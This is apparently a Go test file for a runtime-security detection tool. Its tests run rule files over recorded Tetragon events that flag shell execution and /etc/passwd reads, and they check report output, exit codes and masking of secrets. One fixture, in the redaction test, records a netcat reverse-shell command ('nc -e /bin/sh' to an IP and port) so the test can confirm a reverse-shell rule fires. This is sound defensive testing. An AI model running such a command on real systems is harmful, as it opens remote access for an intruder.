// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"path"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/testenv"
)

func runTool(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(args, &out, &errb)
	return code, out.String(), errb.String()
}

// oracle counts, straight from the JSON lines, what the test rules should find.
func oracle(t *testing.T, dir string) (events, shells, passwd int) {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(dir, "*.jsonl"))
	require.NoError(t, err)
	for _, f := range files {
		fh, err := os.Open(f)
		require.NoError(t, err)
		sc := bufio.NewScanner(fh)
		sc.Buffer(nil, 16<<20)
		for sc.Scan() {
			var ev struct {
				ProcessExec *struct {
					Process struct{ Binary string } `json:"process"`
				} `json:"process_exec"`
				ProcessKprobe *struct {
					FunctionName string `json:"function_name"`
					Args         []struct {
						FileArg *struct{ Path string } `json:"file_arg"`
					} `json:"args"`
				} `json:"process_kprobe"`
			}
			require.NoError(t, json.Unmarshal(sc.Bytes(), &ev))
			events++
			if ev.ProcessExec != nil {
				if b := path.Base(ev.ProcessExec.Process.Binary); b == "sh" || b == "bash" {
					shells++
				}
			}
			if k := ev.ProcessKprobe; k != nil && k.FunctionName == "security_file_permission" &&
				len(k.Args) > 0 && k.Args[0].FileArg != nil && k.Args[0].FileArg.Path == "/etc/passwd" {
				passwd++
			}
		}
		require.NoError(t, sc.Err())
		fh.Close()
	}
	return events, shells, passwd
}

func TestRealEventsJSON(t *testing.T) {
	dir := filepath.Join(testenv.EventsDir(t), "real")
	events, shells, passwd := oracle(t, dir)
	require.Equal(t, 56, events)
	require.Positive(t, shells)
	require.Positive(t, passwd)

	code, out, stderr := runTool(t, "--no-builtin", "--rules", "testdata/rules.yaml", "--json", dir)
	require.Equal(t, 0, code, stderr)
	var rep struct {
		Files   []fileResult  `json:"files"`
		Events  []eventResult `json:"events"`
		Summary summary       `json:"summary"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &rep))
	assert.Equal(t, events, rep.Summary.Events)
	assert.Equal(t, 2, rep.Summary.RulesEnabled)
	assert.Equal(t, map[string]int{"Test shell exec": shells, "Test passwd access": passwd}, rep.Summary.Matches)
	assert.Empty(t, rep.Summary.EvaluationErrors)
	assert.Len(t, rep.Files, 13)
	for _, e := range rep.Events {
		require.NotEmpty(t, e.Rules)
		switch e.Rules[0] {
		case "Test passwd access":
			assert.Equal(t, "process_kprobe", e.Event)
			assert.Equal(t, "critical", e.Severity)
		case "Test shell exec":
			assert.Equal(t, "process_exec", e.Event)
			assert.Contains(t, []string{"sh", "bash"}, path.Base(e.Binary))
			assert.NotEmpty(t, e.ExecID)
		}
	}
}

func TestRealEventsText(t *testing.T) {
	f := filepath.Join(testenv.EventsDir(t), "real", "docs-use-cases--filename-access.jsonl")
	code, out, stderr := runTool(t, "--no-builtin", f, "--rules", "testdata/rules.yaml")
	require.Equal(t, 0, code, stderr)
	assert.Contains(t, out, "docs-use-cases--filename-access.jsonl: 1 lines, 1 events, 0 of unknown type, 0 malformed")
	assert.Contains(t, out, "process_kprobe  dGV0cmFnb24tZGV2LWNvbnRyb2wtcGxhbmU6MTY4MTc3MDUwMTI1NDI6NjQ3NDY=  /bin/vi")
	assert.Contains(t, out, "default/file-access")
	assert.Contains(t, out, "Summary: 1 events, 1 with detections (1 after suppression), 2 rules enabled, 1 fired")
	assert.Contains(t, out, "Lines: 1 read, 0 skipped (0 of unknown type, 0 malformed)")
	assert.Contains(t, out, "1      0           1           -       critical  Test passwd access")
	assert.Contains(t, out, "1 enabled rules did not fire (--all-rules lists them)")
}

func TestLegacyInputsAreCountedNotFatal(t *testing.T) {
	code, out, stderr := runTool(t, "--no-builtin", "--rules", "testdata/rules.yaml", "--json", filepath.Join(testenv.EventsDir(t), "legacy"))
	require.Equal(t, 0, code, stderr)
	var rep struct {
		Files   []fileResult `json:"files"`
		Summary summary      `json:"summary"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &rep))
	assert.Equal(t, 12, rep.Summary.Lines)
	assert.Equal(t, skipped{Unknown: 11, Malformed: 1}, rep.Summary.Skipped)
	var unknown, malformed int
	for _, f := range rep.Files {
		unknown += f.Unknown
		malformed += f.Malformed
	}
	assert.Equal(t, 11, unknown)
	assert.Equal(t, 1, malformed)
}

func TestCapturedGzip(t *testing.T) {
	f := filepath.Join(testenv.EventsDir(t), "captured", "main-export.jsonl.gz")
	code, out, stderr := runTool(t, "--no-builtin", "--rules", "testdata/rules.yaml", "--json", f)
	require.Equal(t, 0, code, stderr)
	var rep struct {
		Files   []fileResult `json:"files"`
		Summary summary      `json:"summary"`
	}
	require.NoError(t, json.Unmarshal([]byte(out), &rep))
	require.Len(t, rep.Files, 1)
	assert.Equal(t, 611, rep.Files[0].Lines)
	assert.Equal(t, rep.Files[0].Events, rep.Summary.Events)
	assert.Positive(t, rep.Summary.Matches["Test shell exec"])
}

func TestRuleLoadErrorExits2(t *testing.T) {
	code, out, stderr := runTool(t, "--no-builtin", "--rules", "testdata/bad_rules.yaml", "x.jsonl")
	assert.Equal(t, 2, code)
	assert.Empty(t, out)
	assert.Contains(t, stderr, `testdata/bad_rules.yaml:2: rule "Broken condition": condition: unknown list @no_such_list`)

	code, _, stderr = runTool(t, "--no-builtin", "--rules", "testdata/rules.yaml", "--disable", "Nope", "--list")
	assert.Equal(t, 2, code)
	assert.Contains(t, stderr, `disabled_rules: rule "Nope": no such rule or chain; known rules: Test shell exec, Test passwd access`)
}

func TestList(t *testing.T) {
	code, out, _ := runTool(t, "--no-builtin", "--rules", "testdata/rules.yaml", "--disable", "Test shell exec", "--list")
	require.Equal(t, 0, code)
	assert.Contains(t, out, "Test passwd access  critical  credential_access  process_kprobe  -          rules.yaml  true")
	assert.Contains(t, out, "2 rules, 1 enabled")

	code, out, _ = runTool(t, "--no-builtin", "--rules", "testdata/rules.yaml", "--list", "--json")
	require.Equal(t, 0, code)
	var list []listedRule
	require.NoError(t, json.Unmarshal([]byte(out), &list))
	require.Len(t, list, 2)
	assert.Equal(t, listedRule{Name: "Test shell exec", Severity: "warning", Category: "execution",
		Events: []string{"tetragon.process_exec"}, Mitre: []string{"T1059.004"}, Ruleset: "rules.yaml", Enabled: true,
		Source: "testdata/rules.yaml:5"}, list[0])

	// The built-in catalogue lists and compiles.
	code, out, stderr := runTool(t, "--list")
	require.Equal(t, 0, code, stderr)
	assert.True(t, strings.HasPrefix(out, "NAME"))
}

func TestUsageErrors(t *testing.T) {
	code, _, stderr := runTool(t, "--no-builtin", "--rules", "testdata/rules.yaml")
	assert.Equal(t, 1, code)
	assert.Contains(t, stderr, "no input files")
	code, _, stderr = runTool(t, "--no-builtin", "--rules", "testdata/rules.yaml", "testdata/nope.jsonl")
	assert.Equal(t, 1, code)
	assert.Contains(t, stderr, "nope.jsonl")
	code, _, _ = runTool(t, "--bogus")
	assert.Equal(t, 1, code)
}

// Reports show command lines as the collector stores them: secrets masked.
func TestOutputIsRedacted(t *testing.T) {
	line := `{"process_exec":{"process":{"exec_id":"ZTE6MQ==","pid":10,"binary":"/usr/bin/nc","arguments":"-e /bin/sh 10.0.0.1 4444 --password=hunter2","pod":{"namespace":"shop","name":"web-0","container":{"id":"containerd://abc","name":"app"}}},"parent":{"exec_id":"ZTE6MA==","pid":9,"binary":"/bin/sh","arguments":"-c run"}},"node_name":"n1","time":"2026-12-07T10:00:00Z"}`
	f := filepath.Join(t.TempDir(), "secret.jsonl")
	if err := os.WriteFile(f, []byte(line+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var out, errOut bytes.Buffer
	if code := run([]string{"--json", f}, &out, &errOut); code != exitOK {
		t.Fatalf("exit %d: %s", code, errOut.String())
	}
	if strings.Contains(out.String(), "hunter2") || !strings.Contains(out.String(), `--password=***`) {
		t.Errorf("report not masked:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "reverse_shell") {
		t.Errorf("reverse_shell did not fire:\n%s", out.String())
	}
}
